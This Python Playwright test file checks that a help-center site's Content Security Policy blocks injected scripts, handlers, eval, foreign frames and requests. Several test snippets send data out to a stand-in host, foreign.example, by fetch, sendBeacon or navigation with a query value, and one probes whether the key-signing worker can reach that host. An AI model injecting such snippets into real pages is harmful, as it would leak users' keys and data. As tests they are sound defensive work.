"""The policy of the site's responses: it forbids what it should, and the site lives within it."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from tests.browser import clipboard
from tests.browser.checker import Checker
from tests.browser.watched import Watched
from validator.core.practice import ACCOUNTS

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, Page

    from tests.browser.center import HelpCenter

pytestmark = pytest.mark.browser

_CHECKER_PAGE = "okx/check-your-key/"


@pytest.fixture(name="watched")
def _watched(browser: Browser, center: HelpCenter) -> Iterator[Watched]:
    """Give a test a page that is watched."""
    context = browser.new_context()
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=center.url)
    yield Watched(context.new_page())
    context.close()


def test_every_page_keeps_to_it(watched: Watched, center: HelpCenter) -> None:
    """No page, opened by itself, does what the policy forbids, or asks another host."""
    for path in center.addresses():
        center.open(watched.page, path)

    assert watched.violations == []
    assert watched.hosts == {urlsplit(center.url).netloc}


def test_a_whole_visit_keeps_to_it(watched: Watched, center: HelpCenter) -> None:
    """Links followed, a search, another scheme, a check and a copy keep to it."""
    page = watched.page
    center.open(page)
    for name in ("Privacy", "Troubleshooting", "Check your key"):
        page.locator("nav, article").get_by_role("link", name=name, exact=True).first.click()
        expect(page.locator("article h1")).not_to_have_text("")
    expect(page).to_have_url(center.url + _CHECKER_PAGE)
    checker = Checker(page)
    checker.wait_for_python()
    checker.paste_all(ACCOUNTS["read-only-bound"].pasted)
    checker.press()
    checker.result.get_by_role("button", name="Copy API key").click()
    expect(checker.result.get_by_role("button", name="API key copied")).to_be_visible()
    assert clipboard.read(page) == ACCOUNTS["read-only-bound"].pasted.api_key
    checker.clear()
    for _ in range(3):
        page.locator("form[data-md-component=palette] label:visible").click()
    page.get_by_role("textbox", name="Search").click()
    page.keyboard.type("passphrase")
    result = page.locator(".md-search-result__link[href*=passphrase]").first
    result.click()
    expect(page).to_have_url(re.compile("passphrase"))

    assert watched.violations == []
    assert watched.hosts - {""} == {urlsplit(center.url).netloc}


_ELEMENT = "const element = document.createElement({!r}); {}; document.body.append(element);"
_FOREIGN = "https://foreign.example/x"
_MODULE = "new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])"
#: Each is tried by the page itself; the directive that has to stop it.
_ATTEMPTS = {
    "inline script": (
        _ELEMENT.format("script", "element.text = 'window.ran = 1'"),
        "script-src-elem",
    ),
    "foreign script": (_ELEMENT.format("script", f"element.src = '{_FOREIGN}'"), "script-src-elem"),
    "handler in an attribute": (
        _ELEMENT.format("p", "element.setAttribute('onclick', 'window.ran = 1')")
        + "element.click()",
        "script-src-attr",
    ),
    "eval": ("try { eval('window.ran = 1') } catch {}", "script-src"),
    "WebAssembly": (
        f"await WebAssembly.compile({_MODULE}).then(() => {{ window.ran = 1 }}, () => {{}})",
        "script-src",
    ),
    "style in an attribute": (
        _ELEMENT.format("p", "element.setAttribute('style', 'color: red')"),
        "style-src-attr",
    ),
    "foreign picture": (_ELEMENT.format("img", f"element.src = '{_FOREIGN}'"), "img-src"),
    "foreign frame": (_ELEMENT.format("iframe", f"element.src = '{_FOREIGN}'"), "frame-src"),
    "request elsewhere": (f"await fetch('{_FOREIGN}').catch(() => {{}})", "connect-src"),
    "beacon elsewhere": (f"navigator.sendBeacon('{_FOREIGN}', 'x')", "connect-src"),
    "form": (_ELEMENT.format("form", "element.action = '/x'") + "element.submit()", "form-action"),
    "base": (
        "const own = document.createElement('base'); own.href = '/x/'; document.head.append(own)",
        "base-uri",
    ),
    "worker from a blob": (
        "try { new Worker(URL.createObjectURL(new Blob(['']))) } catch {}",
        "worker-src",
    ),
}


@pytest.fixture(scope="module", name="victim")
def _victim(browser: Browser, served: HelpCenter) -> Iterator[Page]:
    """Give tests one page that notes which directive stopped something."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(served.url + _CHECKER_PAGE)
    Checker(page).wait_for_python()
    page.evaluate(
        """() => { window.stopped = [];
        addEventListener("securitypolicyviolation",
          (event) => window.stopped.push(event.effectiveDirective)) }"""
    )
    yield page
    context.close()


@pytest.mark.parametrize("name", _ATTEMPTS)
def test_what_would_break_it_is_stopped(victim: Page, name: str) -> None:
    """Every attempt of injected markup or a faulty script is refused and reported."""
    attempt, directive = _ATTEMPTS[name]
    victim.evaluate("() => { window.stopped.length = 0; delete window.ran }")

    # In a task of its own: what the debugger itself calls may use `eval`.
    victim.evaluate(f"() => new Promise((done) => setTimeout(async () => {{ {attempt}; done() }}))")

    victim.wait_for_function("name => window.stopped.includes(name)", arg=directive)
    assert victim.evaluate("window.ran") is None


def test_the_worker_reaches_no_other_host(victim: Page, served: HelpCenter) -> None:
    """The worker, which signs with the secret key, can make no request to another host."""
    asked: list[str] = []
    victim.context.on("request", lambda request: asked.append(request.url))
    (worker,) = (worker for worker in victim.workers if worker.url.endswith("/worker.mjs"))

    refused = worker.evaluate(
        """async (url) => {
          const stopped = new Promise((resolve) => addEventListener("securitypolicyviolation",
            (event) => resolve(event.effectiveDirective), { once: true }));
          return [await fetch(url).then(() => "sent", () => "refused"), await stopped]; }""",
        _FOREIGN,
    )
    allowed = worker.evaluate(
        "url => fetch(url).then((response) => response.status)", f"{served.url}api/time"
    )

    assert (refused, allowed) == (["refused", "connect-src"], 200)
    assert _FOREIGN not in asked


@pytest.mark.parametrize("attempt", ["location = url", "window.open(url)"])
def test_no_policy_keeps_a_script_from_leaving(
    browser: Browser, center: HelpCenter, attempt: str
) -> None:
    """Going to another address does send what stands in it: the threat model says so."""
    context = browser.new_context()
    context.route(f"{_FOREIGN}**", lambda route: route.fulfill(body=""))
    page = context.new_page()
    page.goto(center.url)

    with context.expect_event("request", lambda request: request.url.startswith(_FOREIGN)) as left:
        page.evaluate(f"url => {{ {attempt} }}", f"{_FOREIGN}?value")

    assert left.value.url == f"{_FOREIGN}?value"
    context.close()


def test_no_site_may_frame_it(center: HelpCenter, browser: Browser) -> None:
    """A page of another origin cannot show ours in a frame."""
    page = browser.new_page()
    page.set_content(f"<iframe src={center.url!r}></iframe>")

    page.frames[1].wait_for_url("chrome-error:**", wait_until="commit")
    page.close()
